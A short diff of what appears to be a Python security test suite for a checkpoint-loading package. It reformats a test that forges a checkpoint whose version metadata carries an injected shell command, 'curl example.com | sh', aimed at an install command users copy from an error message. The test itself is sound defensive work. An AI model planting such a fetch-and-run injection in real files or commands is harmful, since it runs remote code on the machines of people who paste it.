@@ -165,7 +165,9 @@ def newer_version(path, outside):
 @attack("open", r"pip install 'eqx_ckpt>=\?'")
 def command_in_the_version(path, outside):
     """A release to install that is a command, in an error that people paste."""
-    forge(path, lambda v: v.update(version=10**6, reader="1'; curl example.com | sh; '"))
+    forge(
+        path, lambda v: v.update(version=10**6, reader="1'; curl example.com | sh; '")
+    )
 
 
 @attack("open", "no format version")
